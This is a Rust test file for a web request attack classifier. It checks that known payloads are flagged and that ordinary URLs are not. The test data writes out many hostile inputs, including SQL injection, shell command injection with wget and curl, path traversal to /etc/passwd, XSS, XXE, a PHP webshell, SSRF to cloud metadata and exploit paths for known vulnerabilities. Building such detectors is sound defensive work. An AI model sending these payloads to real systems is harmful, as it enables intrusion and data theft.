//! Are attacks seen, and an honest web not?

use super::super::text::plain;
use super::*;

fn classes(target: &str) -> Vec<Class> {
    let mut seen = Vec::new();
    let raw = target.to_ascii_lowercase();
    inspect(&raw, &plain(target.as_bytes()), Place::Target, &mut seen);
    let mut doubt = std::collections::BTreeMap::new();
    for s in seen {
        *doubt.entry(s.class).or_insert(1.0) *= 1.0 - s.weight;
    }
    doubt.into_iter().filter(|(_, d)| *d <= 0.5).map(|(c, _)| c).collect()
}

#[test]
fn attacks_are_seen() {
    use Class::*;
    for (target, class) in [
        (
            "/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+database%28%29%2C+user%28%29%23&Submit=Submit",
            Sql,
        ),
        ("/a?id=1%27%20or%20%271%27=%271", Sql),
        ("/a?id=1%20AND%205948=5948", Sql),
        ("/a?id=1/**/UNION/**/ALL/**/SELECT/**/1", Sql),
        ("/a?user=admin%27--%20", Sql),
        ("/a?id=1;WAITFOR%20DELAY%20%270:0:5%27", Sql),
        ("/a?host=127.0.0.1;cat%20/etc/passwd", Command),
        ("/a?host=127.0.0.1|id", Command),
        ("/a?x=`wget%20http://10.0.0.1/x`", Command),
        ("/a?x=$(curl%20http://h)", Command),
        ("/a?f=../../../../etc/passwd", Traversal),
        ("/a?f=/etc/passwd", Traversal),
        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", Traversal),
        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", Exploit),
        ("/a/..%255c..%255cwinnt/x", Traversal),
        ("/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", Exploit),
        ("/a?q=%3Cscript%3Ealert(1)%3C/script%3E", Script),
        ("/a?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", Script),
        ("/a?page=php://filter/convert.base64-encode/resource=index", Inclusion),
        ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", Exploit),
        (
            "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/",
            Exploit,
        ),
        ("/console/css/%252e%252e%252fconsole.portal?_nfpb=true", Exploit),
        ("/mgmt/tm/util/bash", Exploit),
        ("/card_scan_decoder.php?No=30&door=%60wget%20http://a/b%60", Exploit),
        ("/SetupWizard.aspx/a", Exploit),
        ("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=", Exploit),
        ("/a?u=admin'--%20-&p=x", Sql),
        ("/a?id=1)%20union(select(1),(2))--", Sql),
        ("/a?id=1+order+by+10--", Sql),
        ("/a?id=1;DROP%20TABLE%20users", Sql),
        ("/a?id=1%20and%20ascii(substring((select%20database()),1,1))>64", Sql),
        ("/a?q=%22%20autofocus%20onfocus=alert(document.cookie)%20x=%22", Script),
        ("/a?q=';alert(String.fromCharCode(88))//", Script),
        ("/a?ip=127.0.0.1%26ls", Command),
        ("/a?ip=1%0Aid", Command),
        ("/up/x.php?cmd=whoami", Command),
        ("/up/x.php?c=ls%20-la%20/", Command),
        ("/d?f=/proc/self/environ", Traversal),
        ("/d?f=../../../wp-config.php", Traversal),
        ("/?page=http://a.example/shell.txt", Inclusion),
        ("/fetch?url=http://169.254.169.254/latest/meta-data/", Inclusion),
        ("/.git/config", Secrets),
        ("/.env", Secrets),
        ("/?n={{7*7}}", Injection),
        ("/?u=*)(uid=*))(|(uid=*", Injection),
        ("/?u=%0d%0aSet-Cookie:%20a=b", Injection),
        ("/login?user=a&pass[$ne]=1", Injection),
        ("/x.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder('id')).start()}", Exploit),
        ("/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1", Exploit),
        ("/analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../etc/cron.d/x", Exploit),
    ] {
        assert!(classes(target).contains(&class), "{target}: {:?}", classes(target));
    }
}

#[test]
fn an_honest_web_is_not() {
    for target in [
        "/",
        "/search?q=it%27s+100%25+%22sure%22+and+cheap+or+free",
        "/search?q=select+a+gift+from+the+list",
        "/search?q=rock+and+roll+or+1+more",
        "/search?q=union+station+select+hotels",
        "/fonts/css?family=Open+Sans:400|Roboto|Lato;display=swap",
        "/page;jsessionid=ABCDEF?id=5;lang=en;ls=1",
        "/odata/Products?$filter=Name%20eq%20%27Milk%27%20and%20Price%20gt%205&$select=Name,ID",
        "/a/../b/../c.css",
        "/console/login/LoginForm.jsp",
        "/SetupWizard.aspx",
        "/docs/mgmt/tm/util/index.html",
        "/pixel?u=https%3A%2F%2Fa.example%2F%3Fx%3D%257B%2522k%2522%3A%2522v%2522%257D&t=(none)|(not%20set)|direct",
        "/wiki/Sleep_(disambiguation)",
        "/q?sql=benchmark+results&x=<b>bold</b>",
        "/api?json={%22a%22:[1,2],%22s%22:%22a=b;c=d%22}",
        "/maps?d=M10,20L30,40;Z&size=1|2|3&and=1&or=2",
        "/track?ua=Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)",
        "/q?s=AT%26T+%26%26+more&if=a==b",
        "/news?title=Cat+%7C+Dog+%7C+Head+of+state",
        "/api?fields=name|size|id",
        "/list?sort=name;id",
        "/search?q=onload=+handlers+a<b+online=1",
        "/api/users?age[$gt]=5&name[$ne]=x",
        "/elfinder/connector?cmd=ls&target=l1_Lw",
        "/cgi/ping?cmd=ping&id=5",
        "/watch?v=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "/doc?x={{name}}&y=${price}&z=2*3",
        "/r?u=http%3A%2F%2Fa.example%2Fx%3Fa%3D1%26id%3D2",
        "/player?file=http://cdn.example/v.mp4&path=http://cdn.example/s.vtt",
        "/repo.git/config",
        "/css/../../img/a.png",
        "/list?order+by+name--asc",
    ] {
        assert_eq!(classes(target), [], "{target}");
    }
}

#[test]
fn markup_and_prose_in_bodies_are_not() {
    for body in [
        "text=<p>Hello <a href='x'>it's</a> me; find me at home | call</p><script src=\"a.js\"></script>",
        "{\"note\":\"SELECT name FROM people; then rest\"}",
        "comment=use rm carefully; echo is nice",
        "note=run%20bash%20-c%20or%20chmod%20777%20on%20it",
        "<root><!-- a template {{name}} --><item o:id='5'/></root>",
    ] {
        let mut seen = Vec::new();
        inspect(&body.to_ascii_lowercase(), &plain(body.as_bytes()), Place::Body, &mut seen);
        assert!(seen.iter().all(|s| s.weight < 0.5), "{body}: {seen:?}");
    }
}

#[test]
fn code_for_an_interpreter_is_seen_in_bodies() {
    for body in [
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
        "cmd=@eval(base64_decode($_POST[z0]));&z0=aWQ=",
        "<?php system($_GET['c']); ?>",
        "{\"user\":\"a\",\"password\": {\"$gt\":\"\"}}",
        "x=O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";}",
    ] {
        let mut seen = Vec::new();
        inspect(&body.to_ascii_lowercase(), &plain(body.as_bytes()), Place::Body, &mut seen);
        assert!(seen.iter().any(|s| s.class == Class::Injection && s.weight >= 0.5), "{body}: {seen:?}");
    }
}
